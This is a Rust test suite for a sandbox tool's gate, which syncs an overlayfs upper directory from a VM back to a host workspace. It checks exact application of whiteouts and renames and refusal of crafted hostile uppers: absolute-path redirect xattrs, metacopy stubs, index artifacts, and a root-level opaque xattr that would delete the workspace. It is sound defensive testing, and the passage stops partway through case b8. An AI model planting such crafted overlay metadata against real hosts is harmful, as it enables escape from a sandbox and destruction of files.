//! The sync gate against the adversarial list of overlay-sync-semantics.md §5, one test per case
//! the CLI can exercise, named after the case id: crafted uppers (a directory with whiteouts and
//! `trusted.overlay.*` xattrs, or a PAX tar stream), or a real overlayfs session where the case is
//! about what the kernel writes. Every refusal is checked for exit status 3, a line naming the path
//! with its reason, and a host (and a canary outside it) unchanged down to inodes, modes, mtimes,
//! xattrs and symlink targets; every apply is checked against the exact resulting tree.
//!
//! A test marked `#[ignore = "BUG: ..."]` asserts the safe behaviour of the spec and fails today.
//!
//! Not covered here: B20 and M13 (the CLI takes no mount options or lower hash from the VM), C2
//! (the completeness trailer holds only entry and byte counts), J8 (the transport is not
//! compressed), L (crash consistency: tests/sync.rs). The K cases race the gate: a thread
//! flipping paths while it runs (K2), or the host and upper changed while the person reads the
//! preview in a real terminal (K1, K3, K4, K6).
//!
//! Every test has its own home on tmpfs (`/dev/shm`) when there is one; mounts (overlayfs,
//! tmpfs) need root, as CI has.

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant, SystemTime};

const PROFILE: &str = "name: t\nextends: default\nworkspaces: [{host: ~/ws}]\n";
const CANARY: &str = "canary: outside the workspace, never touched\n";

/// Path → a description of everything about it (kind, mode, owner, inode, links, mtime, xattrs,
/// content or target).
type Snapshot = BTreeMap<String, String>;

struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Out {
    fn all(&self) -> String {
        format!("--- stdout\n{}--- stderr\n{}", self.stdout, self.stderr)
    }
}

/// A home with a host workspace `ws` (baselined), a canary and an `outside` folder beside it, the
/// profile `t`, and an upper directory to craft.
struct Gate {
    dir: tempfile::TempDir,
}

fn mkdirs(root: &Path, rel: &str) {
    let mut at = root.to_path_buf();
    for comp in Path::new(rel).components() {
        at.push(comp);
        if std::fs::symlink_metadata(&at).is_err() {
            std::fs::create_dir(&at).expect("mkdir");
            chmod(&at, 0o755);
        }
    }
}

fn put(root: &Path, rel: &str, content: &[u8]) {
    if let Some(parent) = Path::new(rel).parent() {
        mkdirs(root, &parent.to_string_lossy());
    }
    let path = root.join(rel);
    std::fs::write(&path, content).expect("write");
    chmod(&path, 0o644);
}

fn chmod(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod");
}

fn set_mtime(path: &Path, time: SystemTime) {
    std::fs::File::options().write(true).open(path).expect("open").set_modified(time).expect("mtime");
}

impl Gate {
    /// Everything but the baseline, with the standard profile.
    fn empty() -> Gate {
        Gate::with_profile(PROFILE)
    }

    fn with_profile(profile: &str) -> Gate {
        // On tmpfs when there is one: the gate fsyncs every step, and on a disk those fsyncs alone
        // would double the runtime of this file.
        let shm = Path::new("/dev/shm");
        let base = if shm.is_dir() { shm.to_path_buf() } else { std::env::temp_dir() };
        let dir = tempfile::Builder::new().prefix("sandbox-gate-").tempdir_in(base).expect("temp dir");
        for d in ["home/ws", "home/outside", "home/.local/state", "upper", "work", "merged", "index"] {
            std::fs::create_dir_all(dir.path().join(d)).expect("mkdir");
            chmod(&dir.path().join(d), 0o755);
        }
        let g = Gate { dir };
        put(&g.home(), "canary", CANARY.as_bytes());
        put(&g.home(), "outside/credentials", b"[default]\nkey = outside\n");
        put(&g.home(), ".config/sandbox/profiles/t.yaml", profile.as_bytes());
        g
    }

    /// Host files (mode 0644, directories 0755), then `sandbox baseline ws`.
    fn new(files: &[(&str, &str)]) -> Gate {
        let g = Gate::empty();
        for (path, content) in files {
            g.h(path, content);
        }
        g.baseline();
        g
    }

    fn baseline(&self) {
        let out = self.run(&["baseline", "ws"]);
        assert_eq!(out.code, 0, "{}", out.all());
    }

    fn root(&self) -> PathBuf {
        self.dir.path().to_path_buf()
    }
    fn home(&self) -> PathBuf {
        self.root().join("home")
    }
    fn host(&self) -> PathBuf {
        self.home().join("ws")
    }
    fn outside(&self) -> PathBuf {
        self.home().join("outside")
    }
    fn upper(&self) -> PathBuf {
        self.root().join("upper")
    }

    /// A host file (before or after the baseline).
    fn h(&self, path: &str, content: &str) -> &Self {
        put(&self.host(), path, content.as_bytes());
        self
    }
    fn h_link(&self, path: &str, target: &str) -> &Self {
        std::os::unix::fs::symlink(target, self.host().join(path)).expect("symlink");
        self
    }

    /// An upper file, its missing parents created as plain directories (0755).
    fn u(&self, path: &str, content: &str) -> &Self {
        self.u_bytes(path, content.as_bytes())
    }
    fn u_bytes(&self, path: &str, content: &[u8]) -> &Self {
        put(&self.upper(), path, content);
        self
    }
    fn u_dir(&self, path: &str) -> &Self {
        mkdirs(&self.upper(), path);
        self
    }
    fn opaque(&self, path: &str) -> &Self {
        self.u_dir(path).xattr(path, "trusted.overlay.opaque", b"y")
    }
    fn u_link(&self, path: &str, target: &str) -> &Self {
        if let Some(parent) = Path::new(path).parent() {
            mkdirs(&self.upper(), &parent.to_string_lossy());
        }
        std::os::unix::fs::symlink(target, self.upper().join(path)).expect("symlink");
        self
    }
    /// A 0:0 character device: the overlay whiteout.
    fn whiteout(&self, path: &str) -> &Self {
        self.mknod(path, rustix::fs::FileType::CharacterDevice, 0o000, 0, 0)
    }
    fn mknod(&self, path: &str, kind: rustix::fs::FileType, mode: u32, major: u32, minor: u32) -> &Self {
        if let Some(parent) = Path::new(path).parent() {
            mkdirs(&self.upper(), &parent.to_string_lossy());
        }
        rustix::fs::mknodat(
            rustix::fs::CWD,
            self.upper().join(path),
            kind,
            rustix::fs::Mode::from_raw_mode(mode),
            rustix::fs::makedev(major, minor),
        )
        .expect("mknod");
        self
    }
    /// An xattr on an upper entry (`""` is the upper's root).
    fn xattr(&self, path: &str, name: &str, value: &[u8]) -> &Self {
        xattr::set(self.upper().join(path), name, value).expect("setxattr");
        self
    }
    fn u_mode(&self, path: &str, mode: u32) -> &Self {
        chmod(&self.upper().join(path), mode);
        self
    }

    fn command(&self, program: &Path) -> Command {
        let mut cmd = Command::new(program);
        cmd.current_dir(self.home())
            .env_clear()
            .envs(crate::test::home_env(&self.home()))
            .env("NO_COLOR", "1")
            .stdin(Stdio::null());
        cmd
    }

    fn run(&self, args: &[&str]) -> Out {
        let output = self.command(Path::new(env!("CARGO_BIN_EXE_sandbox"))).args(args).output().expect("run sandbox");
        Out {
            code: output.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        }
    }

    fn sync_args(&self, extra: &[&str]) -> Vec<String> {
        let mut args: Vec<String> = ["--profile", "t", "sync", "--from-dir"].map(String::from).into();
        args.push(self.upper().display().to_string());
        args.extend(["--to", "ws"].map(String::from));
        args.extend(extra.iter().map(|s| (*s).to_owned()));
        args
    }

    /// `sandbox --profile t sync --from-dir UPPER --to ws EXTRA...`
    fn sync(&self, extra: &[&str]) -> Out {
        let args = self.sync_args(extra);
        self.run(&args.iter().map(String::as_str).collect::<Vec<_>>())
    }

    /// The same, killed (and `None`) if it has not finished within `limit`.
    fn sync_within(&self, extra: &[&str], limit: Duration) -> Option<Out> {
        self.run_within(&self.sync_args(extra), limit)
    }

    /// `sandbox ARGS`, killed (and `None`) if it has not finished within `limit`.
    fn run_within(&self, args: &[String], limit: Duration) -> Option<Out> {
        let (out_path, err_path) = (self.root().join("stdout"), self.root().join("stderr"));
        let mut child = self
            .command(Path::new(env!("CARGO_BIN_EXE_sandbox")))
            .args(args)
            .stdout(std::fs::File::create(&out_path).expect("stdout file"))
            .stderr(std::fs::File::create(&err_path).expect("stderr file"))
            .spawn()
            .expect("spawn sandbox");
        let start = Instant::now();
        loop {
            if let Some(status) = child.try_wait().expect("wait") {
                return Some(Out {
                    code: status.code().unwrap_or(-1),
                    stdout: std::fs::read_to_string(&out_path).unwrap_or_default(),
                    stderr: std::fs::read_to_string(&err_path).unwrap_or_default(),
                });
            }
            if start.elapsed() > limit {
                let _ = child.kill();
                let _ = child.wait();
                return None;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// `sandbox sync --from-tar FILE --entries N --bytes N --to ws EXTRA...`
    fn sync_tar(&self, tar: &Tar, extra: &[&str]) -> Out {
        self.sync_tar_counted(&tar.finish(), tar.entries, tar.bytes, extra)
    }

    fn sync_tar_counted(&self, stream: &[u8], entries: u64, bytes: u64, extra: &[&str]) -> Out {
        let file = self.root().join("upper.tar");
        std::fs::write(&file, stream).expect("write tar");
        let (file, entries, bytes) = (file.display().to_string(), entries.to_string(), bytes.to_string());
        let mut args =
            vec!["--profile", "t", "sync", "--from-tar", &file, "--entries", &entries, "--bytes", &bytes, "--to", "ws"];
        args.extend(extra);
        self.run(&args)
    }

    /// The operations a dry run plans, as `op path`.
    fn ops(&self) -> Vec<String> {
        let out = self.sync(&["--dry-run", "--json"]);
        let report: serde_json::Value = serde_json::from_str(&out.stdout).expect("json report");
        report["ops"]
            .as_array()
            .expect("ops")
            .iter()
            .map(|op| format!("{} {}", op["op"].as_str().unwrap_or("?"), op["path"].as_str().unwrap_or("?")))
            .collect()
    }

    /// Everything under the home except the tool's own config and state: the workspace, the
    /// canary and `outside`.
    fn snapshot(&self) -> Snapshot {
        let home = self.home();
        let mut out = BTreeMap::new();
        let walk = walkdir::WalkDir::new(&home)
            .sort_by_file_name()
            .into_iter()
            .filter_entry(|e| !(e.depth() == 1 && (e.file_name() == ".local" || e.file_name() == ".config")));
        for e in walk {
            let e = e.expect("walk");
            let rel = e.path().strip_prefix(&home).expect("rel").display().to_string();
            let meta = std::fs::symlink_metadata(e.path()).expect("lstat");
            let mut what = format!(
                "mode={:o} uid={} gid={} ino={} nlink={} mtime={}.{:09}",
                meta.mode(),
                meta.uid(),
                meta.gid(),
                meta.ino(),
                meta.nlink(),
                meta.mtime(),
                meta.mtime_nsec()
            );
            if meta.file_type().is_symlink() {
                what.push_str(&format!(" -> {:?}", std::fs::read_link(e.path()).expect("readlink")));
            } else if meta.is_file() {
                what.push_str(&format!(" {:?}", String::from_utf8_lossy(&std::fs::read(e.path()).expect("read"))));
            }
            let mut names: Vec<_> = xattr::list(e.path()).map(Iterator::collect).unwrap_or_default();
            names.sort();
            for name in names {
                let value = xattr::get(e.path(), &name).ok().flatten().unwrap_or_default();
                what.push_str(&format!(" {}={:?}", name.to_string_lossy(), String::from_utf8_lossy(&value)));
            }
            out.insert(rel, what);
        }
        out
    }

    /// The workspace as `path/ MODE`, `path MODE CONTENT` and `path -> TARGET` lines, sorted.
    fn tree(&self) -> Vec<String> {
        tree_of(&self.host())
    }

    /// A real overlay over the host folder (the §1.10 options), `agent` run on its merged view,
    /// unmounted; returns the merged view as `tree` lines.
    fn agent(&self, agent: impl FnOnce(&Path) -> std::io::Result<()>) -> Vec<String> {
        let merged = self.root().join("merged");
        let opts = format!(
            "lowerdir={},upperdir={},workdir={},redirect_dir=nofollow,index=off,metacopy=off,nfs_export=off,xino=off,uuid=off",
            self.host().display(),
            self.upper().display(),
            self.root().join("work").display()
        );
        let mount = Command::new("mount").args(["-t", "overlay", "overlay", "-o", &opts]).arg(&merged).output();
        let mount = mount.expect("mount");
        assert!(mount.status.success(), "overlayfs needs root: {}", String::from_utf8_lossy(&mount.stderr));
        let result = agent(&merged);
        let view = tree_of(&merged);
        let umount = Command::new("umount").arg(&merged).status().expect("umount");
        result.expect("agent session");
        assert!(umount.success());
        view
    }

    fn canary_intact(&self) {
        assert_eq!(std::fs::read_to_string(self.home().join("canary")).expect("canary"), CANARY);
    }
}

fn tree_of(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in walkdir::WalkDir::new(root).min_depth(1) {
        let e = e.expect("walk");
        let rel = e.path().strip_prefix(root).expect("rel").display().to_string();
        let meta = std::fs::symlink_metadata(e.path()).expect("lstat");
        let mode = meta.mode() & 0o7777;
        out.push(if meta.file_type().is_symlink() {
            format!("{rel} -> {}", std::fs::read_link(e.path()).expect("readlink").display())
        } else if meta.is_dir() {
            format!("{rel}/ {mode:o}")
        } else {
            let bytes = std::fs::read(e.path()).expect("read");
            let content = if bytes.len() > 256 {
                format!("<{} bytes>", bytes.len())
            } else {
                String::from_utf8_lossy(&bytes).into_owned()
            };
            format!("{rel} {mode:o} {content}")
        });
    }
    out.sort();
    out
}

fn lines(expected: &[&str]) -> Vec<String> {
    let mut v: Vec<String> = expected.iter().map(|s| (*s).to_owned()).collect();
    v.sort();
    v
}

/// Refused by the gate: exit 3, a preview line for each (path, reason) that starts with the path,
/// and nothing changed in the workspace or outside it.
#[track_caller]
fn refused(g: &Gate, out: &Out, before: &Snapshot, expect: &[(&str, &str)]) {
    unchanged_by_refusal(g, out, before);
    names(out, expect);
}

/// The same, for refusals whose line is recognised by a fragment of its message.
#[track_caller]
fn refused_saying(g: &Gate, out: &Out, before: &Snapshot, expect: &[(&str, &str)]) {
    unchanged_by_refusal(g, out, before);
    for (fragment, reason) in expect {
        assert!(
            out.stdout.lines().any(|l| l.contains(fragment) && l.contains(reason)),
            "no line says `{fragment}` with `{reason}`\n{}",
            out.all()
        );
    }
}

#[track_caller]
fn unchanged_by_refusal(g: &Gate, out: &Out, before: &Snapshot) {
    assert_eq!(out.code, 3, "refused by the gate (exit 3)\n{}", out.all());
    assert!(out.stderr.contains("refused by the gate: nothing was written"), "{}", out.all());
    assert_eq!(&g.snapshot(), before, "the host and everything beside it are unchanged\n{}", out.all());
    g.canary_intact();
}

/// Each (path, reason) has a line of the preview starting with `path: ` and giving the reason.
#[track_caller]
fn names(out: &Out, expect: &[(&str, &str)]) {
    for (path, reason) in expect {
        let head = format!("{path}: ");
        assert!(
            out.stdout.lines().any(|l| l.trim_start().starts_with(&head) && l.contains(reason)),
            "no line names `{path}` with `{reason}`\n{}",
            out.all()
        );
    }
}

#[track_caller]
fn applied(out: &Out) {
    assert_eq!(out.code, 0, "applied (exit 0)\n{}", out.all());
    assert!(out.stderr.contains("applied "), "{}", out.all());
}

#[track_caller]
fn nothing_to_do(g: &Gate, out: &Out, before: &Snapshot) {
    assert_eq!(out.code, 0, "{}", out.all());
    assert!(out.stderr.contains("nothing to do"), "{}", out.all());
    assert_eq!(&g.snapshot(), before, "nothing was written\n{}", out.all());
}

/// A tmpfs mounted for one test, unmounted when dropped.
struct Mount(PathBuf);

impl Mount {
    fn tmpfs(at: &Path, size: &str) -> Mount {
        let out = Command::new("mount")
            .args(["-t", "tmpfs", "-o", &format!("size={size},mode=0755"), "tmpfs"])
            .arg(at)
            .output()
            .expect("mount");
        assert!(out.status.success(), "mounting a tmpfs needs root: {}", String::from_utf8_lossy(&out.stderr));
        Mount(at.to_path_buf())
    }
}

impl Drop for Mount {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

/// A tar stream written member by member, names verbatim, counting what `--entries`/`--bytes`
/// declare (members other than extension headers and `./`; regular file bytes).
struct Tar {
    buf: Vec<u8>,
    entries: u64,
    bytes: u64,
    sizes: BTreeMap<Vec<u8>, u64>,
}

impl Tar {
    fn new() -> Tar {
        Tar { buf: Vec::new(), entries: 0, bytes: 0, sizes: BTreeMap::new() }
    }

    /// One member: a header claiming `size` bytes, then `data` padded to the block size.
    fn member(&mut self, ty: tar::EntryType, name: &[u8], link: &[u8], size: u64, data: &[u8]) -> &mut Self {
        let mut h = tar::Header::new_ustar();
        h.as_old_mut().name[..name.len()].copy_from_slice(name);
        h.as_old_mut().linkname[..link.len()].copy_from_slice(link);
        h.set_entry_type(ty);
        h.set_size(size);
        h.set_mode(match ty {
            tar::EntryType::Directory => 0o755,
            tar::EntryType::Symlink => 0o777,
            tar::EntryType::Char => 0,
            _ => 0o644,
        });
        h.set_uid(0);
        h.set_gid(0);
        h.set_mtime(1_700_000_000);
        h.set_device_major(0).expect("major");
        h.set_device_minor(0).expect("minor");
        h.set_cksum();
        self.buf.extend_from_slice(h.as_bytes());
        self.buf.extend_from_slice(data);
        self.buf.resize(self.buf.len().next_multiple_of(512), 0);
        let extension = matches!(ty, tar::EntryType::XHeader | tar::EntryType::GNULongName);
        if !extension && name != b"./" {
            self.entries += 1;
        }
        if ty == tar::EntryType::Regular {
            self.bytes += size;
            self.sizes.insert(name.to_vec(), size);
        }
        if ty == tar::EntryType::Link {
            self.bytes += self.sizes.get(link).copied().unwrap_or(0);
        }
        self
    }

    fn pax(&mut self, records: &[(&str, &[u8])]) -> &mut Self {
        let mut data = Vec::new();
        for (key, value) in records {
            let body = 3 + key.len() + value.len();
            let mut len = body + 1;
            while len != body + len.to_string().len() {
                len = body + len.to_string().len();
            }
            data.extend_from_slice(format!("{len} {key}=").as_bytes());
            data.extend_from_slice(value);
            data.push(b'\n');
        }
        self.member(tar::EntryType::XHeader, b"./PaxHeaders/x", b"", data.len() as u64, &data)
    }

    fn root(&mut self) -> &mut Self {
        self.member(tar::EntryType::Directory, b"./", b"", 0, b"")
    }
    fn file(&mut self, path: &str, data: &str) -> &mut Self {
        self.file_bytes(path.as_bytes(), data.as_bytes())
    }
    fn file_bytes(&mut self, path: &[u8], data: &[u8]) -> &mut Self {
        self.member(tar::EntryType::Regular, path, b"", data.len() as u64, data)
    }
    fn symlink(&mut self, path: &str, target: &str) -> &mut Self {
        self.member(tar::EntryType::Symlink, path.as_bytes(), target.as_bytes(), 0, b"")
    }
    fn hardlink(&mut self, path: &str, target: &str) -> &mut Self {
        self.member(tar::EntryType::Link, path.as_bytes(), target.as_bytes(), 0, b"")
    }
    fn whiteout(&mut self, path: &str) -> &mut Self {
        self.member(tar::EntryType::Char, path.as_bytes(), b"", 0, b"")
    }

    /// The stream with its end-of-archive marker.
    fn finish(&self) -> Vec<u8> {
        let mut out = self.buf.clone();
        out.resize(out.len() + 1024, 0);
        out
    }
}

const KEEP: [(&str, &str); 3] = [("README.md", "# project\n"), ("src/main.rs", "fn main() {}\n"), ("keep.txt", "keep")];

// ---------------------------------------------------------------------------------------------
// A. Core overlay semantics: applied exactly.

#[test]
fn a1_modified_file_is_written_and_nothing_else_is_touched() {
    let g = Gate::new(&[("a", "hi\n"), ("b", "B"), ("d/x", "x")]);
    g.u("a", "hi\nmore\n");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert_eq!(g.tree(), lines(&["a 644 hi\nmore\n", "b 644 B", "d/ 755", "d/x 644 x"]));
    let after = g.snapshot();
    for path in ["ws/b", "ws/d/x", "canary", "outside/credentials"] {
        assert_eq!(before[path], after[path], "{path}: same inode, mtime and content");
    }
}

#[test]
fn a2_copy_up_without_a_change_writes_nothing() {
    let g = Gate::new(&[("same", "same\n"), ("other", "o")]);
    let before = g.snapshot();
    g.agent(|m| {
        let f = std::fs::File::options().read(true).write(true).open(m.join("same"))?;
        f.set_modified(SystemTime::now() + Duration::from_secs(3600))
    });
    assert!(g.upper().join("same").is_file(), "the kernel copied the file up");
    let out = g.sync(&["--yes"]);
    nothing_to_do(&g, &out, &before);
    assert!(out.stdout.contains("same: copied up without changes"), "{}", out.all());
}

#[test]
fn a3_whiteout_deletes_the_file() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.whiteout("b");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A"]));
}

#[test]
fn a4_whiteout_deletes_the_directory_deepest_first() {
    let g = Gate::new(&[("d2/x", "1"), ("d2/sub/y", "2"), ("keep", "k")]);
    g.whiteout("d2");
    let ops = g.ops();
    assert_eq!(ops.len(), 4, "{ops:?}");
    for (i, op) in ops.iter().enumerate() {
        let path = op.strip_prefix("delete ").expect("only deletes");
        assert!(!ops[i + 1..].iter().any(|later| later.starts_with(&format!("delete {path}/"))), "{ops:?}");
    }
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["keep 644 k"]));
}

#[test]
fn a5_shared_whiteout_inode_deletes_every_name() {
    let g = Gate::new(&[("b", "B"), ("d2/x", "x"), ("d4/z", "z"), ("keep", "k")]);
    g.whiteout("b");
    std::fs::hard_link(g.upper().join("b"), g.upper().join("d2")).expect("link");
    std::fs::hard_link(g.upper().join("b"), g.upper().join("d4")).expect("link");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(!out.all().to_lowercase().contains("hardlink"), "no hardlink warning: {}", out.all());
    assert_eq!(g.tree(), lines(&["keep 644 k"]));
}

#[test]
fn a6_opaque_directory_replaces_the_directory() {
    let g = Gate::new(&[("d3/y", "y"), ("d3/sub/z", "z"), ("keep", "k")]);
    g.agent(|m| {
        std::fs::remove_dir_all(m.join("d3"))?;
        std::fs::create_dir(m.join("d3"))?;
        std::fs::write(m.join("d3/new"), "n")
    });
    assert_eq!(xattr::get(g.upper().join("d3"), "trusted.overlay.opaque").expect("xattr"), Some(b"y".to_vec()));
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d3/ 755", "d3/new 644 n", "keep 644 k"]));
}

#[test]
fn a7_plain_child_of_an_opaque_directory_is_replaced_too() {
    let g = Gate::new(&[("d/sub/b", "b"), ("d/sub/b2", "b2"), ("d/top", "t")]);
    g.opaque("d").u_dir("d/sub").u("d/sub/u", "u");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d/ 755", "d/sub/ 755", "d/sub/u 644 u"]));
}

#[test]
fn a8_file_becomes_a_directory() {
    let g = Gate::new(&[("c", "file"), ("keep", "k")]);
    g.opaque("c").u("c/inner", "i");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["c/ 755", "c/inner 644 i", "keep 644 k"]));
}

#[test]
fn a9_directory_becomes_a_file() {
    let g = Gate::new(&[("d6/r", "r"), ("d6/sub/s", "s"), ("keep", "k")]);
    g.u("d6", "now a file");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d6 644 now a file", "keep 644 k"]));
}

#[test]
fn a10_directory_becomes_an_in_tree_symlink() {
    let g = Gate::new(&[("docs/index.md", "i"), ("site/docs/index.md", "s")]);
    g.u_link("docs", "site/docs");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["docs -> site/docs", "site/ 755", "site/docs/ 755", "site/docs/index.md 644 s"]));
}

#[test]
fn a11_file_rename_is_a_copy_and_a_whiteout() {
    let g = Gate::new(&[("d1/f1", "one"), ("d1/f2", "two")]);
    g.agent(|m| std::fs::rename(m.join("d1/f1"), m.join("d1/f1renamed")));
    assert!(std::fs::symlink_metadata(g.upper().join("d1/f1")).is_ok(), "a whiteout");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d1/ 755", "d1/f1renamed 644 one", "d1/f2 644 two"]));
}

#[test]
fn a12_directory_rename_falls_back_to_copy_and_applies_complete() {
    let g = Gate::new(&[("d4/z", "z"), ("d4/inner/i", "i"), ("keep", "k")]);
    let merged = g.agent(|m| {
        // No panics while mounted: errors unmount first.
        match std::fs::rename(m.join("d4"), m.join("d4renamed")) {
            Err(e) if e.raw_os_error() == Some(18) => {}
            other => return Err(std::io::Error::other(format!("expected EXDEV, got {other:?}"))),
        }
        // What `mv` does on EXDEV: copy, then delete.
        std::fs::create_dir_all(m.join("d4renamed/inner"))?;
        std::fs::write(m.join("d4renamed/z"), "z")?;
        std::fs::write(m.join("d4renamed/inner/i"), "i")?;
        std::fs::remove_dir_all(m.join("d4"))
    });
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), merged);
    assert_eq!(
        g.tree(),
        lines(&[
            "d4renamed/ 755",
            "d4renamed/inner/ 755",
            "d4renamed/inner/i 644 i",
            "d4renamed/z 644 z",
            "keep 644 k"
        ])
    );
}

#[test]
fn a13_directory_metadata_copy_up_keeps_its_children() {
    let g = Gate::new(&[("d5/x", "1"), ("d5/y", "2"), ("d5/z", "3")]);
    g.u_dir("d5").u_mode("d5", 0o700);
    let out = g.sync(&["--yes"]);
    assert_eq!(out.code, 0, "{}", out.all());
    // docs/sync.md: directory modes stay the host's (noted, not applied); the children stay.
    assert!(out.stdout.contains("d5: directory mode changed in the VM; not applied"), "{}", out.all());
    assert_eq!(g.tree(), lines(&["d5/ 755", "d5/x 644 1", "d5/y 644 2", "d5/z 644 3"]));
}

#[test]
fn a14_spurious_opaque_on_a_new_directory_is_harmless() {
    let g = Gate::new(&[("a", "A")]);
    g.opaque("newdir").u("newdir/f", "f");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "newdir/ 755", "newdir/f 644 f"]));
}

#[test]
fn a15_whiteout_for_a_path_never_seen_is_a_noted_no_op() {
    let g = Gate::new(&[("a", "A")]);
    g.whiteout("ghost");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    nothing_to_do(&g, &out, &before);
    assert!(out.stdout.contains("ghost: deleted in the VM but never in the baseline"), "{}", out.all());
}

#[test]
fn a16_empty_upper_with_root_xattrs_changes_nothing() {
    let g = Gate::new(&KEEP);
    g.xattr("", "trusted.overlay.uuid", b"0123456789abcdef").xattr("", "trusted.overlay.impure", b"y");
    let before = g.snapshot();
    nothing_to_do(&g, &g.sync(&["--yes"]), &before);
}

#[test]
fn a17_new_nested_tree_is_created() {
    let g = Gate::new(&[("a", "A")]);
    g.u("newdir/deep/f", "f");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 A", "newdir/ 755", "newdir/deep/ 755", "newdir/deep/f 644 f"]));
}

#[test]
fn a18_rename_over_an_existing_file() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.agent(|m| std::fs::rename(m.join("a"), m.join("b")));
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["b 644 A"]));
}

#[test]
fn a19_deleted_then_recreated_file_is_replaced() {
    let g = Gate::new(&[("c", "old"), ("keep", "k")]);
    g.agent(|m| {
        std::fs::remove_file(m.join("c"))?;
        std::fs::write(m.join("c"), "new")
    });
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["c 644 new", "keep 644 k"]));
}

#[test]
fn a20_upper_root_metadata_is_ignored() {
    let g = Gate::new(&[("a", "A")]);
    let mode = std::fs::metadata(g.host()).expect("stat").mode();
    g.u("a", "A2").u_mode("", 0o777);
    set_mtime(&g.upper().join("a"), SystemTime::now());
    applied(&g.sync(&["--yes"]));
    assert_eq!(std::fs::metadata(g.host()).expect("stat").mode(), mode, "the workspace root keeps its mode");
    assert_eq!(g.tree(), lines(&["a 644 A2"]));
}

// ---------------------------------------------------------------------------------------------
// B. Overlay format attacks and misconfiguration: refused.

#[test]
fn b1_redirected_directory_is_refused() {
    let g = Gate::new(&[("d4/z", "z"), ("d4/inner/i", "i")]);
    g.u_dir("d4renamed").xattr("d4renamed", "trusted.overlay.redirect", b"d4").whiteout("d4");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d4renamed", "E_REDIRECT")]);
}

#[test]
fn b2_absolute_redirect_is_refused() {
    let g = Gate::new(&[("src/a", "a")]);
    g.u_dir("dst").xattr("dst", "trusted.overlay.redirect", b"/src");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("dst", "E_REDIRECT")]);
}

#[test]
fn b3_metacopy_stub_is_refused() {
    let g = Gate::new(&[("exec.sh", "#!/bin/sh\necho hi\n")]);
    g.u_bytes("exec.sh", b"");
    std::fs::File::options().write(true).open(g.upper().join("exec.sh")).expect("open").set_len(10).expect("sparse");
    g.xattr("exec.sh", "trusted.overlay.metacopy", b"");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("exec.sh", "E_METACOPY")]);
}

#[test]
fn b4_metacopy_with_redirect_is_refused() {
    let g = Gate::new(&[("f1", "one"), ("c", "c")]);
    g.u_bytes("f1renamed", b"\0\0\0").xattr("f1renamed", "trusted.overlay.metacopy", b"");
    g.xattr("f1renamed", "trusted.overlay.redirect", b"f1").whiteout("f1");
    g.u_bytes("moved", b"\0").xattr("moved", "trusted.overlay.metacopy", b"");
    g.xattr("moved", "trusted.overlay.redirect", b"/c");
    let before = g.snapshot();
    let expect = [("f1renamed", "E_METACOPY"), ("f1renamed", "E_REDIRECT"), ("moved", "E_REDIRECT")];
    refused(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn b5_index_artifact_is_refused() {
    let g = Gate::empty();
    g.h("hl1", "hl");
    std::fs::hard_link(g.host().join("hl1"), g.host().join("hl2")).expect("link");
    g.baseline();
    g.u("hl1", "changed").xattr("hl1", "trusted.overlay.nlink", b"U+0");
    std::fs::hard_link(g.upper().join("hl1"), g.root().join("index/00fb1d")).expect("link");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("hl1", "E_INDEX")]);
}

#[test]
fn b6_nfs_export_artifacts_are_refused() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.u("a", "A2").xattr("a", "trusted.overlay.nlink", b"U-1");
    g.u("b", "B2").xattr("b", "trusted.overlay.upper", b"\x00\xfb\x21");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("a", "E_INDEX"), ("b", "E_INDEX")]);
}

#[test]
fn b7_opaque_on_the_root_is_refused_and_nothing_is_deleted() {
    let g = Gate::empty();
    for i in 0..50 {
        g.h(&format!("f{i:02}"), "x");
    }
    g.baseline();
    g.xattr("", "trusted.overlay.opaque", b"y").u("new", "n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".", "E_OPAQUE_ANOMALY")]);
}

#[test]
fn b8_opaque_lookalike_values_are_refused() {
    let g = Gate::new(&[("y1/x", "1"), ("y2/x", "2"), ("y3/x", "3"), ("y4/x", "4")]);
    for (dir, value) in [("y1", &b"yes"[..]), ("y2", b"Y"), ("y3", b""), ("y4", b"n")] {
        g.u_dir(dir).xattr(dir, "trusted.overlay.opaque", value);
